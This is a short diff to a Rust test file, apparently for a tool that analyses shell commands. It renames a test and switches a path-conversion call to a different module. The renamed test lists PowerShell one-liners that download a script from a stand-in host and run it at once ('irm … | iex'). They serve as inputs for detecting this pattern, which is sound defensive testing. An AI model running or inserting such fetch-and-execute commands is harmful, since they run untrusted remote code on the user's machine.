@@ -85,7 +85,7 @@ fn shells_that_start_shells_end() {
 }
 
 #[test]
-fn what_is_fetched_and_run() {
+fn downloaded_scripts_that_are_run_are_found() {
     for script in [
         "irm h.example/x | iex",
         "iwr h.example/x|iex",
@@ -259,7 +259,7 @@ fn paths_in_posix_terms() {
         ("\\\\server\\share", "//server/share"),
         ("HKLM:\\Software", "HKLM:/Software"),
     ] {
-        assert_eq!(path::posix(path), expected, "{path}");
+        assert_eq!(command::posix(path), expected, "{path}");
     }
 }
 
